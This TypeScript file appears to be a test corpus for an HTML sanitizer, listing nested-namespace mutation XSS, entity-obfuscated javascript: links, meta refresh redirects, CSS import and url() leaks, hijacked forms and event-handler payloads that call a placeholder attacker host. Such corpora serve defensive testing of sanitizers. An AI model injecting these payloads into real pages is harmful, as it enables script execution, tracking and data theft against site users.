import { letter, run } from "./letter.ts";

const img = (evil: string, path: string) => `<img src=${evil}/${path} onerror="${run(evil)}">`;

/** Attacks that need a combination: nested namespaces, disguised schemes, CSS inside CSS. */
export const hostileMixtures = [
  letter(
    "namespaces within namespaces",
    (evil) =>
      `<svg><desc><math><mi><table><mglyph><svg><mtext><style><path id="</style>${img(evil, "ns1")}">`,
  ),
  letter(
    "math annotation as html",
    (evil) =>
      `<math><annotation-xml encoding="text/html">${img(evil, "ax")}<style><a title="</style>${img(evil, "ax2")}"></style></annotation-xml></math>`,
  ),
  letter(
    "svg title and desc as html",
    (evil) => `<svg><title>${img(evil, "st")}</title><desc><iframe src="${evil}/sd"></iframe></desc></svg>`,
  ),
  letter(
    "foreignObject with math and style",
    (evil) =>
      `<svg><foreignObject><math><mi><style><!--</style></mi></math><style>--></style>${img(evil, "fos")}</foreignObject></svg>`,
  ),
  letter(
    "template within template in noscript",
    (evil) =>
      `<noscript><template><noscript></template></noscript>${img(evil, "tt")}</noscript><template><template>${img(evil, "tt2")}</template></template>`,
  ),
  letter(
    "table, caption and math of a mutation",
    (evil) =>
      `<table><caption><svg><title><table><caption></caption></table></title><style><a id="</style>${img(evil, "cap")}"></style></svg></caption></table>`,
  ),
  letter(
    "processing instructions and doctypes",
    (evil) =>
      `<?php ${img(evil, "pi")} ?><!DOCTYPE html SYSTEM "${evil}/dtd" [<!ENTITY x SYSTEM "${evil}/ent">]><p>&x;</p><![if !IE]>${img(evil, "cc")}<![endif]>`,
  ),
  letter(
    "comments of an old browser",
    (evil) =>
      `<!--[if gte mso 9]><xml><v:background fill="t"><v:fill src="${evil}/vml"/></v:background></xml><![endif]--><v:image src="${evil}/vi"/><v:rect href="javascript:${run(evil)}">press</v:rect>`,
  ),
  letter("schemes with entities and control signs", (evil) =>
    [
      `java&NewLine;script&colon;${run(evil)}`,
      `&#1;javascript:${run(evil)}`,
      `&#x6A;&#x61;vascript&#58;${run(evil)}`,
      `JaVaScRiPt&#x0003A;${run(evil)}`,
      `view-source:javascript:${run(evil)}`,
      `vb&Tab;script:msgbox(1)`,
      `data:application/xhtml+xml;base64,PHNjcmlwdC8+`,
      `blob:${evil}/x`,
      `filesystem:${evil}/temporary/x`,
      `intent://x#Intent;scheme=http;end`,
      `ms-msdt:/id`,
      `\\\\\\\\${evil.slice(7)}\\share`,
    ]
      .map((href) => `<a href="${href}">press</a>`)
      .join(" "),
  ),
  letter(
    "refresh in every spelling",
    (evil) =>
      `<META HTTP-EQUIV="Refresh" CONTENT="0; URL='${evil}/mr1'"><meta http-equiv="&#114;efresh" content="0;${evil}/mr2"><meta content="0;url=javascript:${run(evil)}" http-equiv=refresh><noscript><meta http-equiv=refresh content="0;url=${evil}/mr3"></noscript>`,
  ),
  letter(
    "hints to the network",
    (evil) =>
      `<meta http-equiv="Link" content="<${evil}/hl>; rel=preload"><link rel="dns-prefetch preconnect" href="//${evil.slice(7)}"><link rel="PRERENDER" href="${evil}/pr"><link rel="alternate stylesheet" title=x href="${evil}/as"><link rel="next" href="${evil}/next"><link itemprop=url href="${evil}/ip">`,
  ),
  letter(
    "policy and refresh of a base",
    (evil) =>
      `<base href="javascript:${run(evil)}//"><base href="${evil}/b/"><a href="#x">press</a><a href="">press</a><img src="?q"><a href="//">press</a>`,
  ),
  letter(
    "srcset in every form",
    (evil) =>
      `<img srcset=",,${evil}/ss1,${evil}/ss2 2x,,${evil}/ss3 100w" src><img src="data:image/png;base64,AA==" srcset="data:image/png;base64,AA== 1x,${evil}/ss4 3x"><picture><source media="(min-width:1px)" type="image/png" srcset="${evil}/ss5"><source src="${evil}/ss6"><img></picture><link rel=preload as=image imagesrcset="${evil}/ss7 1x">`,
  ),
  letter(
    "pictures within pictures",
    (evil) =>
      `<img src="data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${run(evil)}"><image href="${evil}/dp"/><script>${run(evil)}</script></svg>`).toString("base64")}"><object type="image/svg+xml" data="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run(evil)}'/>"></object><embed src="data:text/html,<script>${run(evil)}</script>">`,
  ),
  letter(
    "imports in nested rules and escapes",
    (evil) =>
      `<style>@media screen{@import url(${evil}/ni1);p{color:red}}@layer a{@import '${evil}/ni2';}@supports (display:block){@i\\mport "${evil}/ni3";}@scope (p){:scope{background:url(${evil}/ni4)}}@starting-style{p{background:url(${evil}/ni5)}}@container style(--a:b){p{background:url(${evil}/ni6)}}</style><p>x</p>`,
  ),
  letter(
    "css functions by prefix and by type()",
    (evil) =>
      `<style>p{background:-webkit-image-set("${evil}/f1" 1x,url("${evil}/f2") 2x);background:image-set("${evil}/f3" type("image/png"));-webkit-mask-image:-webkit-cross-fade(url(${evil}/f4),url(${evil}/f5),10%);-webkit-mask-box-image:url(${evil}/f6);-webkit-border-image:url(${evil}/f7);filter:url(${evil}/f8#a);clip-path:url(${evil}/f9#a);offset-path:url(${evil}/f10#a);marker:url(${evil}/f11)}</style><p>x</p>`,
  ),
  letter(
    "css through variables, attr() and if()",
    (evil) =>
      `<style>p{--a:url(;--b:${evil}/va);background:var(--a)var(--b);--c:'${evil}/vb';background:image-set(var(--c) 1x);background:attr(data-u type(<url>));background:if(style(--c): url(${evil}/vc))}</style><p data-u="${evil}/vd" style="--x:image-set('${evil}/ve' 1x);background-image:var(--x)">x</p>`,
  ),
  letter(
    "style attributes with comments and broken strings",
    (evil) =>
      `<p style="color:red;/*;*/background/**/:/**/u/**/rl(${evil}/sc1)">x</p><p style="a:'\n;background:url(${evil}/sc2)">x</p><p style="color:red&#59;b&#97;ckground:url(${evil}/sc3)">x</p><p style="}*{background:url(${evil}/sc4)}x{">x</p><p style='font-family:"}</style><img src=${evil}/sc5>"'>x</p>`,
  ),
  letter(
    "css that hides in hacks",
    (evil) =>
      `<style><!-- p{background:url(${evil}/h1)} --></style><style>/*<![CDATA[*/p{background:url(${evil}/h2)}/*]]>*/</style><style>p{_background:url(${evil}/h3);*background:url(${evil}/h4);background:url(${evil}/h5)\\9}</style><style media=print>p{background:url(${evil}/h6)}</style><style type="text/x">p{background:url(${evil}/h7)}</style><p>x</p>`,
  ),
  letter(
    "fonts, colours and counters with addresses",
    (evil) =>
      `<style>@font-face{font-family:a;src:local(x),url("${evil}/ff1")format("woff2");unicode-range:U+58}@font-palette-values --p{font-family:a;override-colors:0 red}@color-profile --c{src:url(${evil}/ff2)}@font-feature-values a{@styleset{x:1}}p{font-family:a;list-style-image:url(${evil}/ff3);content:url(${evil}/ff4);quotes:url(${evil}/ff5)}</style><p>X</p>`,
  ),
  letter(
    "links that send or save",
    (evil) =>
      `<a href="${evil}/ls1" ping="${evil}/ls2" target=download download="x.exe" referrerpolicy=unsafe-url>press</a><a href="${evil}/ls3" target="_parent" rel=opener>press</a><a href="${evil}/ls4" target="Message">press</a><svg><a xlink:href="${evil}/ls5" target=_top><text y=20>press</text></a></svg>`,
  ),
  letter(
    "forms from outside and by keys",
    (evil) =>
      `<form id=q action="${evil}/fo1"></form><input form=q name=a value=b accesskey=a autofocus><button form=q formaction="${evil}/fo2" formmethod=post formtarget=_blank type=submit>press</button><isindex action="${evil}/fo3" prompt=press><keygen form=q><fieldset form=q><label>press<input type=image form=q src="${evil}/fo4"></label></fieldset>`,
  ),
  letter(
    "focus, popovers and commands",
    (evil) =>
      `<div contenteditable autofocus onfocus="${run(evil)}" onbeforeinput="${run(evil)}">press</div><details name=a open ontoggle="${run(evil)}"><summary accesskey=x onclick="${run(evil)}">press</summary></details><div popover=auto id=pp onbeforetoggle="${run(evil)}">x</div><button popovertarget=pp interestfor=pp oncommand="${run(evil)}">press</button><marquee onstart="${run(evil)}">x</marquee><video onloadstart="${run(evil)}" src=x></video>`,
  ),
  letter(
    "elements of tomorrow",
    (evil) =>
      `<selectedcontent>${img(evil, "t1")}</selectedcontent><permission type=geolocation onpromptaction="${run(evil)}">press</permission><webview src="${evil}/t2"></webview><controlledframe src="${evil}/t3"></controlledframe><geolocation onlocation="${run(evil)}">press</geolocation><img is=x-img sharedstoragewritable src="${evil}/t4"><script type=importmap>{"imports":{"a":"${evil}/t5"}}</script><script type=webbundle>{"source":"${evil}/t6","resources":["${evil}/t7"]}</script>`,
  ),
];
